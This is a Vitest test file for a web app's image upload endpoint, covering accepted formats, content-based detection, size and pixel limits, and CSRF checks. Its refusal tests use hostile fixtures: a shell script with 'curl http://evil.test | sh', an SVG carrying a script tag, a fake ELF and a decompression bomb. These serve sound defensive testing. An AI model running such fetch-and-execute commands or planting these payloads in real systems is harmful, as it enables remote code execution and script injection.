// POST /media: only real images get in, judged by their content; every limit answers with its status.
import { existsSync, readdirSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import sharp from 'sharp';
import request from 'supertest';
import { beforeAll, describe, expect, it } from 'vitest';
import { Media } from '../../src/media/media.model.js';
import { testApp } from '../support/app.js';
import { makeUser } from '../support/factories.js';
import { filesUnder, hugePng, makeImage, upload, type TestFormat } from '../support/media.js';
import { sessionFor, type TestSession } from '../support/session.js';

const { app, config } = testApp({ maxUploadBytes: 200 * 1024 });
let author: TestSession;

beforeAll(async () => {
  author = sessionFor(await makeUser({ role: 'author' }), config);
});

async function expectNothingStored(): Promise<void> {
  expect(await Media.countDocuments()).toBe(0);
  expect(filesUnder(config.uploadDir)).toEqual([]);
}

describe('accepted formats', () => {
  const cases: Array<[TestFormat, string, string]> = [
    ['jpeg', 'photo.jpg', 'image/jpeg'],
    ['png', 'drawing.png', 'image/png'],
    ['webp', 'modern.webp', 'image/webp'],
    ['avif', 'newer.avif', 'image/avif'],
    ['gif', 'old.gif', 'image/gif'],
  ];
  for (const [format, filename, contentType] of cases) {
    it(`stores a ${format} with its format, dimensions and files`, async () => {
      const res = await upload(app, author, await makeImage(format, 90, 60), { filename, contentType, alt: `A ${format} picture` });
      expect(res.status).toBe(303);
      expect(res.headers.location).toBe('/media');
      const media = await Media.findOne({ filename }).lean();
      expect(media).toMatchObject({ format, width: 90, height: 60, alt: `A ${format} picture` });
      expect(media!.originalKey).toBe(`media/${media!.storageKey}/original.${format === 'jpeg' ? 'jpg' : format}`);
      const stored = await sharp(join(config.uploadDir, media!.originalKey)).metadata();
      expect(stored.format).toBe(format === 'avif' ? 'heif' : format);
      expect(existsSync(join(config.uploadDir, media!.variants[0]!.key))).toBe(true);
    });
  }

  it('judges by content, not by name or MIME type: a PNG called .jpg and sent as text/plain is a PNG', async () => {
    const res = await upload(app, author, await makeImage('png', 30, 20), { filename: 'mislabelled.jpg', contentType: 'text/plain' });
    expect(res.status).toBe(303);
    expect(await Media.findOne({ filename: 'mislabelled.jpg' }).lean()).toMatchObject({ format: 'png', width: 30, height: 20 });
  });
});

describe('refused files', () => {
  beforeAll(async () => {
    await Media.deleteMany({});
    for (const name of readdirSync(config.uploadDir)) {
      rmSync(join(config.uploadDir, name), { recursive: true, force: true });
    }
  });

  it('a shell script renamed to .jpg with image/jpeg is 415', async () => {
    const res = await upload(app, author, Buffer.from('#!/bin/sh\ncurl http://evil.test | sh\n'), { filename: 'cat.jpg' });
    expect(res.status).toBe(415);
    await expectNothingStored();
  });

  it('an executable (ELF) renamed to .jpg is 415', async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(2000, 0x90)]);
    const res = await upload(app, author, elf, { filename: 'holiday.jpg' });
    expect(res.status).toBe(415);
    await expectNothingStored();
  });

  it('SVG (which sharp could read) is 415', async () => {
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>');
    const res = await upload(app, author, svg, { filename: 'logo.svg', contentType: 'image/svg+xml' });
    expect(res.status).toBe(415);
    await expectNothingStored();
  });

  it('a TIFF (a real image, not an accepted format) is 415', async () => {
    const tiff = await sharp({ create: { width: 10, height: 10, channels: 3, background: '#000' } }).tiff().toBuffer();
    const res = await upload(app, author, tiff, { filename: 'scan.jpg' });
    expect(res.status).toBe(415);
    await expectNothingStored();
  });

  it('a JPEG header followed by junk is 415', async () => {
    const real = await makeImage('jpeg', 400, 300);
    const forged = Buffer.concat([real.subarray(0, 300), Buffer.alloc(4000, 0x41)]);
    // The header alone is convincing: sharp reads its dimensions.
    expect((await sharp(forged).metadata()).width).toBe(400);
    const res = await upload(app, author, forged, { filename: 'forged.jpg' });
    expect(res.status).toBe(415);
    await expectNothingStored();
  });

  it('a truncated JPEG is 415', async () => {
    const real = await makeImage('jpeg', 400, 300);
    const res = await upload(app, author, real.subarray(0, Math.floor(real.length / 2)), { filename: 'half.jpg' });
    expect(res.status).toBe(415);
    await expectNothingStored();
  });

  it('a file over MAX_UPLOAD_MB is 413', async () => {
    const big = Buffer.concat([await makeImage('jpeg'), Buffer.alloc(config.maxUploadBytes, 0)]);
    const res = await upload(app, author, big, { filename: 'huge.jpg' });
    expect(res.status).toBe(413);
    await expectNothingStored();
  });

  it('an image with too many pixels (a decompression bomb) is 413, before decoding', async () => {
    const bomb = hugePng(20_000, 20_000);
    expect(bomb.length).toBeLessThan(30_000);
    const res = await upload(app, author, bomb, { filename: 'bomb.png', contentType: 'image/png' });
    expect(res.status).toBe(413);
    expect(res.text).toContain('megapixels');
    await expectNothingStored();
  });

  it('more than one file in a request is 413', async () => {
    const jpeg = await makeImage('jpeg');
    const res = await upload(app, author, jpeg, { filename: 'one.jpg' }).attach('file', jpeg, { filename: 'two.jpg', contentType: 'image/jpeg' });
    expect(res.status).toBe(413);
    await expectNothingStored();
  });

  it('a file in another field is 400', async () => {
    const res = await request(app)
      .post(`/media?_csrf=${encodeURIComponent(author.csrf)}`)
      .set('Cookie', author.cookie)
      .field('alt', 'x')
      .attach('other', await makeImage('jpeg'), { filename: 'a.jpg', contentType: 'image/jpeg' });
    expect(res.status).toBe(400);
    await expectNothingStored();
  });

  it('a body declaring more than any upload may carry is refused before it is read', async () => {
    const res = await request(app)
      .post(`/media?_csrf=${encodeURIComponent(author.csrf)}`)
      .set('Cookie', author.cookie)
      .set('Content-Type', 'multipart/form-data; boundary=x')
      .set('Content-Length', String(50 * 1024 * 1024))
      .send('--x--');
    expect(res.status).toBe(413);
  });

  it('no file is 422 with the form shown again and the alt text kept', async () => {
    const res = await request(app)
      .post(`/media?_csrf=${encodeURIComponent(author.csrf)}`)
      .set('Cookie', author.cookie)
      .field('alt', 'Kept alt text');
    expect(res.status).toBe(422);
    expect(res.text).toContain('Choose an image file to upload.');
    expect(res.text).toContain('value="Kept alt text"');
  });

  it('a request that is not multipart is 422', async () => {
    const res = await request(app).post('/media').set('Cookie', author.cookie).type('form').send({ _csrf: author.csrf, alt: 'x' });
    expect(res.status).toBe(422);
    await expectNothingStored();
  });

  it('missing alt text is 422 and stores nothing', async () => {
    const res = await upload(app, author, await makeImage('jpeg'), { alt: '   ' });
    expect(res.status).toBe(422);
    expect(res.text).toContain('Alt text is required.');
    await expectNothingStored();
  });

  it('a refused file on the plain form shows the library again with the reason', async () => {
    const res = await upload(app, author, Buffer.from('not an image'), { filename: 'notes.jpg', alt: 'Kept' });
    expect(res.status).toBe(415);
    expect(res.text).toContain('id="media-upload-form"');
    expect(res.text).toContain('not an accepted image');
    expect(res.text).toContain('value="Kept"');
  });

  it('a script asking for JSON gets the refusal as JSON', async () => {
    const res = await upload(app, author, Buffer.from('not an image'), { filename: 'notes.jpg' }).set('Accept', 'application/json');
    expect(res.status).toBe(415);
    expect(res.body.error.status).toBe(415);
  });
});

describe('CSRF on multipart', () => {
  it('an upload without the token is 403 and stores nothing', async () => {
    const before = await Media.countDocuments();
    const res = await request(app)
      .post('/media')
      .set('Cookie', author.cookie)
      .field('alt', 'x')
      .attach('file', await makeImage('jpeg'), { filename: 'a.jpg', contentType: 'image/jpeg' });
    expect(res.status).toBe(403);
    expect(await Media.countDocuments()).toBe(before);
  });

  it('a token in a multipart body field does not count (the body is parsed after the check)', async () => {
    const res = await request(app)
      .post('/media')
      .set('Cookie', author.cookie)
      .field('_csrf', author.csrf)
      .field('alt', 'x')
      .attach('file', await makeImage('jpeg'), { filename: 'a.jpg', contentType: 'image/jpeg' });
    expect(res.status).toBe(403);
  });

  it('the x-csrf-token header works (the XHR upload uses the query, scripts may use either)', async () => {
    const res = await request(app)
      .post('/media')
      .set('Cookie', author.cookie)
      .set('x-csrf-token', author.csrf)
      .set('Accept', 'application/json')
      .field('alt', 'Header token')
      .attach('file', await makeImage('jpeg'), { filename: 'header.jpg', contentType: 'image/jpeg' });
    expect(res.status).toBe(201);
    expect(res.body.redirect).toBe('/media');
    expect(await Media.exists({ _id: res.body.id })).toBeTruthy();
  });
});
